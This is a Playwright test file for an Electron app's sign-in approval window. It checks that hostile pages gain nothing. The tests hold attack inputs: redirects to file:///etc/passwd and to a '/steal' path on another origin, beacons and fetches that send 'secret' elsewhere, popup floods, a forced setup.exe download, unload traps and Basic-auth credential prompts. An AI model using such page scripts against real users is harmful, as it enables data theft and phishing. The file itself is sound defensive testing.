import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { expect, test as base } from '@playwright/test';
import type { SignInState } from '../../src/shared/contract/sign-in.ts';
import { apiKey, startService } from '../e2e/service.ts';
import type { TestService } from '../e2e/service.ts';
import { page, startHostileService } from './hostile-service.ts';
import type { HostileService } from './hostile-service.ts';
import { launchStandIn } from './launch.ts';
import type { StandInRun } from './launch.ts';

/* Authorisation pages that want more than they are given. Each gets nothing, and the app can be used afterwards. */

interface Look {
  readonly title: string | null;
  readonly address: string | null;
  readonly windows: number;
  readonly loading: boolean | null;
  readonly main: string;
  readonly lockedAsOurs: number;
  readonly kept: number;
}

interface Fixtures {
  readonly service: HostileService;
  /** Another origin of this machine, which nobody allowed. */
  readonly elsewhere: HostileService;
  readonly launch: (...args: string[]) => Promise<StandInRun>;
}

const test = base.extend<Fixtures>({
  // eslint-disable-next-line no-empty-pattern -- Playwright reads the names of what a fixture needs from here
  service: async ({}, use) => {
    const service = await startHostileService();
    await use(service);
    await service.close();
  },
  // eslint-disable-next-line no-empty-pattern -- as above
  elsewhere: async ({}, use) => {
    const service = await startHostileService();
    await use(service);
    await service.close();
  },
  // eslint-disable-next-line no-empty-pattern -- as above
  launch: async ({}, use) => {
    const folder = await mkdtemp(join(tmpdir(), 'marquee-approval-'));
    const runs: StandInRun[] = [];
    await use(async (...args) => {
      const userData = join(folder, String(runs.length));
      const run = launchStandIn({ main: program, userData, args });
      runs.push(run);
      await expect.poll(() => run.output(), { timeout: 120_000 }).toContain('fixture ready');
      return run;
    });
    for (const run of runs) {
      expect(run.output()).toBe('fixture ready\n');
      expect(await run.quit()).toBe(0);
    }
    await rm(folder, { recursive: true, force: true, maxRetries: 10 });
  },
});

const program = fileURLToPath(new URL('./fixture/approval-app.ts', import.meta.url));

const look = (run: StandInRun): Promise<Look> => run.askProgram<Look>('look');
const state = (run: StandInRun): Promise<SignInState> => run.askProgram<SignInState>('state');
const reaches = (run: StandInRun, step: SignInState['step']) =>
  expect.poll(async () => (await state(run)).step).toBe(step);
const answers = async (run: StandInRun, call: string): Promise<unknown[]> =>
  (await run.ask('recorded')).filter((entry) => entry.call === call).map(({ answer }) => answer);

/** Waits until what the page began is over: a request that it made after that is answered, and nothing loads. */
async function rests(run: StandInRun): Promise<void> {
  // A page that is being left meanwhile gives no answer, and then it is over as well.
  await run.askProgram(
    'press',
    `new Promise((settle) => setTimeout(settle)).then(() => fetch('/rest')).then(() => 0, () => 0)`,
  );
  await expect.poll(async () => (await look(run)).loading).toBe(false);
}

/** Begins, and waits until the approval page is shown. */
async function begin(run: StandInRun, service: HostileService): Promise<void> {
  await run.askProgram('begin');
  await expect.poll(async () => (await look(run)).address ?? '').toContain(`${service.origin}/authenticate/`);
}

/** Nobody is signed in and no window is left; and an honest page signs in, in the same run. */
async function gotNothing(run: StandInRun, service: HostileService): Promise<void> {
  await run.askProgram('cancel');
  await reaches(run, 'ended');
  await expect.poll(async () => (await look(run)).windows).toBe(1);
  expect(await look(run)).toMatchObject({ kept: 0, main: 'Main', lockedAsOurs: 1 });
  expect((await run.ask('recorded')).map(({ call }) => call)).not.toContain('shell.openExternal');
  service.behave();
  await begin(run, service);
  await approve(run);
  await reaches(run, 'signedIn');
}

async function approve(run: StandInRun): Promise<void> {
  await expect
    .poll(() => run.askProgram<boolean | null>('press', `document.querySelector('button') !== null`))
    .toBe(true);
  await run.askProgram('press', `document.querySelector('button').click()`);
}

test('an honest page signs in, in a window that says where it comes from and leaves nothing', async ({
  service,
  launch,
}) => {
  const run = await launch(service.origin);
  await begin(run, service);
  expect(await look(run)).toMatchObject({ title: service.origin, windows: 2, lockedAsOurs: 1 });
  expect(await state(run)).toMatchObject({ step: 'awaiting', how: 'window' });
  expect(JSON.stringify(await state(run))).not.toContain('/authenticate/');
  const reach = await run.askProgram(
    'press',
    `document.cookie = 'left=behind'; ['require', 'process', 'module', 'ipcRenderer', 'marquee'].filter((name) => name in window)`,
  );
  expect(reach).toEqual([]);
  await approve(run);
  await reaches(run, 'signedIn');
  await expect.poll(async () => (await look(run)).windows).toBe(1);
  const calls = await run.ask('recorded');
  expect(calls).toContainEqual({ call: 'session.clearStorageData', parameters: ['approval-1'] });
  await run.askProgram('signOut');
  await begin(run, service);
  await approve(run);
  await reaches(run, 'signedIn');
  // The first answer set it; the second attempt had a session of its own.
  const cookies = service.told.map((line) => line.split('|')[0]);
  expect(cookies.filter((cookie) => cookie !== '')).toHaveLength(2);
  expect(cookies[3]).toBe('');
});

test('the bundled service’s own page approves and denies', async ({ launch }) => {
  const bundled = await startService({ titles: 12 });
  try {
    const { origin } = new URL(bundled.base);
    const run = await launch(origin, bundled.authorisation, new URL(bundled.pictures).origin, apiKey);
    const answer = async (decision: 'approve' | 'deny'): Promise<void> => {
      await run.askProgram('begin');
      const button = `document.querySelector('[value=${decision}]')`;
      await expect.poll(() => run.askProgram('press', `${button} !== null`)).toBe(true);
      await run.askProgram('press', `${button}.click()`);
    };
    await answer('deny');
    await reaches(run, 'ended');
    expect(await state(run)).toMatchObject({ why: 'denied' });
    await answer('approve');
    await reaches(run, 'signedIn');
    expect((await look(run)).windows).toBe(1);
  } finally {
    await bundled.close();
  }
});

const wicked = {
  'plain http of another host': () => 'http://catalogue.example/',
  'a file': () => 'file:///etc/passwd',
  'a data address': () => 'data:text/html,<title>https://www.catalogue.example</title>',
  'another host': (elsewhere: HostileService) => `${elsewhere.origin}/steal`,
  'a scheme of the app': () => 'marquee://signed-in?approved=true',
} as const;

test('a closed window, a request that expired, a refused key and a service that went away each end in their own words', async ({
  launch,
}) => {
  test.slow();
  const why = async (run: StandInRun): Promise<string> => {
    await reaches(run, 'ended');
    const ended = await state(run);
    await expect.poll(async () => (await look(run)).windows).toBe(1);
    return ended.step === 'ended' ? ended.why : ended.step;
  };
  const opened = (run: StandInRun) =>
    expect.poll(async () => (await look(run)).address ?? '').toContain('/authenticate/');
  const bundled = await startService({ titles: 12 });
  const hasty = await startService({ titles: 12, tokenMinutes: 0 });
  const program = (service: TestService, key: string): Promise<StandInRun> =>
    launch(new URL(service.base).origin, service.authorisation, new URL(service.pictures).origin, key);
  try {
    const run = await program(bundled, apiKey);
    await run.askProgram('begin');
    await opened(run);
    await run.askProgram('close');
    expect(await why(run)).toBe('cancelled');

    await run.askProgram('begin');
    await opened(run);
    await bundled.stop();
    await run.askProgram('close');
    expect(await why(run)).toBe('unreachable');
    await run.askProgram('begin');
    expect(await why(run)).toBe('unreachable');

    const late = await program(hasty, apiKey);
    await late.askProgram('begin');
    await expect
      .poll(async () => ((await state(late)).step === 'ended' ? 'ended' : ((await look(late)).address ?? '')))
      .not.toBe('');
    if ((await state(late)).step !== 'ended') await late.askProgram('close');
    expect(await why(late)).toBe('expired');

    const refused = await program(hasty, '00000000000000000000000000000000');
    await refused.askProgram('begin');
    expect(await why(refused)).toBe('keyRefused');
  } finally {
    await bundled.close();
    await hasty.close();
  }
});

for (const [what, where] of Object.entries(wicked)) {
  test(`a page that leads to ${what}`, async ({ service, elsewhere, launch }) => {
    const to = where(elsewhere);
    const run = await launch(service.origin);
    // Before anything is shown: the window would stay empty, so the attempt ends.
    service.serve((_request, response) => {
      response.writeHead(302, { Location: to });
      response.end();
    });
    await run.askProgram('begin');
    await reaches(run, 'ended');
    expect(await state(run)).toMatchObject({
      failure: { code: expect.stringMatching(/badResponse|offline/) },
    });

    // By itself, by a link, by a form and by a redirect, once it is shown.
    service.serve((request, response) => {
      if (request.url?.startsWith('/go')) {
        response.writeHead(302, { Location: to });
        response.end();
      } else page(`<a href="${to}">go</a><form action="${to}" method="post"></form>`)(request, response);
    });
    await begin(run, service);
    const shown = (await look(run)).address;
    for (const code of [
      `location.href = ${JSON.stringify(to)}`,
      `document.querySelector('a').click()`,
      `document.querySelector('form').submit()`,
      `location.href = '/go'`,
    ]) {
      await run.askProgram('press', `${code}; 0`);
      await rests(run);
      const { title, address, windows } = await look(run);
      expect({ title, windows }).toEqual({ title: service.origin, windows: 2 });
      // Chromium itself puts an error in the place of a redirect to a file or to data.
      expect([shown, 'chrome-error://chromewebdata/']).toContain(address);
    }
    await gotNothing(run, service);
    expect(elsewhere.visits).toEqual([]);
  });
}

test('a page that opens windows without end, and dialogs', async ({ service, elsewhere, launch }) => {
  const run = await launch(service.origin);
  service.serve(page('<a target="_blank" href="/other">other</a>'));
  await begin(run, service);
  const opened = await run.askProgram<number>(
    'press',
    `let opened = 0;
    for (let index = 0; index < 12; index += 1) {
      if (window.open(${JSON.stringify(`${elsewhere.origin}/popup`)} + index, '_blank', 'popup') !== null) opened += 1;
    }
    document.querySelector('a').click();
    for (let index = 0; index < 5; index += 1) { alert('Your session has expired'); confirm('Sure?'); }
    opened`,
  );
  // The stand-in denies a window after the page has it, Electron before.
  await expect.poll(async () => (await answers(run, 'window.open')).length).toBeGreaterThanOrEqual(opened);
  await rests(run);
  expect((await look(run)).windows).toBe(2);
  const decided = await answers(run, 'window.open');
  expect(decided.length).toBeGreaterThan(0);
  expect(decided.filter((answer) => answer !== 'deny')).toEqual([]);
  expect((await run.ask('recorded')).filter(({ call }) => call.startsWith('page.'))).toEqual([]);
  await gotNothing(run, service);
  expect(elsewhere.visits).toEqual([]);
});

test('a page that sends a file', async ({ service, launch }) => {
  const run = await launch(service.origin);
  service.serve((request, response) => {
    if (!request.url?.startsWith('/setup'))
      return page('<a href="/setup.exe" download>now</a>')(request, response);
    response.writeHead(200, {
      'Content-Type': 'application/octet-stream',
      'Content-Disposition': 'attachment; filename="setup.exe"',
    });
    response.end('MZ');
  });
  await begin(run, service);
  await run.askProgram('press', `document.querySelector('a').click()`);
  await run.askProgram('press', `location.href = '/setup'; 0`);
  const downloads = async () => (await run.ask('recorded')).filter(({ call }) => call === 'download');
  await expect.poll(async () => (await downloads()).length).toBeGreaterThan(0);
  expect((await downloads()).map(({ answer }) => answer)).not.toContain('allowed');
  await gotNothing(run, service);
});

test('a page that sends what it knows elsewhere, by everything but a picture', async ({
  service,
  elsewhere,
  launch,
}) => {
  const run = await launch(service.origin, service.origin, elsewhere.origin);
  service.serve(page('<p>Approve</p>'));
  await begin(run, service);
  const to = elsewhere.origin;
  await run.askProgram(
    'press',
    `(async () => {
      const add = (name, facts) => document.head.append(Object.assign(document.createElement(name), facts));
      add('script', { src: '${to}/script' });
      add('link', { rel: 'stylesheet', href: '${to}/style' });
      add('link', { rel: 'prefetch', href: '${to}/prefetch' });
      navigator.sendBeacon('${to}/beacon', 'secret');
      new EventSource('${to}/events');
      await fetch('${to}/fetch', { mode: 'no-cors' }).catch(() => undefined);
      await new Promise((resolve) => {
        const picture = new Image();
        picture.onload = picture.onerror = resolve;
        picture.src = '${to}/picture';
      });
    })()`,
  );
  await rests(run);
  await gotNothing(run, service);
  expect(elsewhere.visits).toEqual(['GET /picture']);
});

test('a page that asks for permissions', async ({ service, launch }) => {
  const run = await launch(service.origin);
  service.serve(page(''));
  await begin(run, service);
  const names = [
    'notifications',
    'media',
    'geolocation',
    'clipboard-read',
    'fullscreen',
    'openExternal',
    'usb',
    'hid',
  ];
  const answers = await run.askProgram<object[]>('permissions', names);
  expect(answers).toEqual(names.map(() => ({ checked: false, requested: false, device: false })));
  await gotNothing(run, service);
});

test('a page that never ends loading', async ({ service, launch }) => {
  const run = await launch(service.origin);
  service.serve((_request, response) => {
    response.writeHead(200, { 'Content-Type': 'text/html' });
    response.write('<!doctype html>');
  });
  await run.askProgram('haste', 200);
  await run.askProgram('begin');
  await reaches(run, 'ended');
  expect(await state(run)).toMatchObject({ step: 'ended', why: 'timedOut' });
  // An honest page has its five minutes.
  await run.askProgram('haste', 1);
  await gotNothing(run, service);
});

test('a page that does not want to be left', async ({ service, launch }) => {
  const run = await launch(service.origin);
  service.serve(
    page(
      `<script>addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = 'Stay'; });` +
        `globalThis.holds = true</script>`,
    ),
  );
  // The app waits 2 s for a page that is closed. On a busy machine Chromium may ask later than that, so the person
  // tries again; what may never be is that the page was asked and kept its window.
  await expect(async () => {
    await begin(run, service);
    // The address is known as soon as the page begins: whoever closes it before its script ran closes another page.
    await expect
      .poll(() => run.askProgram('press', `document.body?.click(); globalThis.holds === true`))
      .toBe(true);
    await run.askProgram('close');
    await reaches(run, 'ended');
    expect(await state(run)).toMatchObject({ why: 'cancelled' });
    expect(await answers(run, 'beforeunload')).toContain('overruled');
  }).toPass({ timeout: 120_000 });
  expect(await answers(run, 'beforeunload')).not.toContain('kept');
  // Nor in the middle of a script without end, whether the person closes it or the app.
  await begin(run, service);
  void run.askProgram('press', `for (;;) {}`).catch(() => undefined);
  await run.askProgram('close');
  await reaches(run, 'ended');
  await begin(run, service);
  void run.askProgram('press', `for (;;) {}`).catch(() => undefined);
  await gotNothing(run, service);
});

test('an approval in a frame, where nobody sees what is approved', async ({ service, elsewhere, launch }) => {
  const run = await launch(service.origin);
  service.serve(
    page(
      `<iframe src="/framed/allow"></iframe><iframe src="${elsewhere.origin}/framed"></iframe>` +
        `<iframe srcdoc="<iframe src='/framed/again'></iframe>"></iframe>`,
    ),
  );
  await begin(run, service);
  await run.askProgram(
    'press',
    `const frame = document.createElement('iframe'); frame.src = '/framed/late'; document.body.append(frame); 0`,
  );
  await rests(run);
  expect(service.exchanges()).toBe(0);
  await gotNothing(run, service);
  expect(service.visits.filter((visit) => visit.includes('framed'))).toEqual([]);
  expect(elsewhere.visits).toEqual([]);
});

test('a callback that is played again', async ({ service, launch }) => {
  const run = await launch(service.origin);
  await begin(run, service);
  await approve(run);
  await reaches(run, 'signedIn');
  await run.askProgram('signOut');
  const replayed = (service.visits.findLast((visit) => visit.includes('/allow')) ?? '').replace('GET ', '');
  expect(replayed).toContain('/allow');

  const before = service.exchanges();
  service.serve(page('Approved'));
  // Between two checks of what a page says the app rests; here for longer than the story lasts.
  await run.askProgram('haste', 0.001);
  await begin(run, service);
  const shows = (part: string) => expect.poll(async () => (await look(run)).address).toContain(part);
  for (let index = 0; index < 8; index += 1) {
    await run.askProgram(
      'press',
      `location.href = ${JSON.stringify(`${replayed}?approved=true&again=${index}`)}; 0`,
    );
    await shows(`again=${index}`);
    const pushed = `/authenticate/allow?request_token=x&approved=true&pushed=${index}`;
    await run.askProgram('press', `history.pushState(null, '', '${pushed}')`);
    await shows(`pushed=${index}`);
  }
  await expect.poll(() => service.exchanges()).toBe(before + 1);
  await reaches(run, 'awaiting');
  await gotNothing(run, service);
  // The one of the honest page comes on top.
  expect(service.exchanges()).toBe(before + 2);
});

test('a page that asks for a name and a password', async ({ service, launch }) => {
  const run = await launch(service.origin);
  service.serve((request, response) => {
    response.setHeader('WWW-Authenticate', 'Basic realm="Your bank"');
    page('No', 401)(request, response);
  });
  await begin(run, service);
  expect(service.told.filter((line) => !line.endsWith('|'))).toEqual([]);
  await gotNothing(run, service);
});

test('a page whose certificate is nobody’s', async ({ service, launch }) => {
  const impostor = await startHostileService({ tls: true });
  const run = await launch(service.origin, impostor.origin);
  await run.askProgram('begin');
  await reaches(run, 'ended');
  expect(await state(run)).toMatchObject({
    why: 'failed',
    failure: { code: 'badResponse', details: { reason: 'certificate' } },
  });
  expect(impostor.visits).toEqual([]);
  expect((await look(run)).windows).toBe(1);
  await impostor.close();
});

test('a page that cannot be reached, and an app that quits while one is open', async ({
  service,
  launch,
}) => {
  const run = await launch(service.origin, 'http://127.0.0.1:9');
  await run.askProgram('begin');
  await reaches(run, 'ended');
  expect(await state(run)).toMatchObject({ why: 'unreachable', failure: { code: 'offline' } });
  const other = await launch(service.origin);
  service.serve(page(`<script>addEventListener('beforeunload', (event) => event.preventDefault())</script>`));
  await begin(other, service);
  await other.askProgram('press', `document.body.click()`);
});
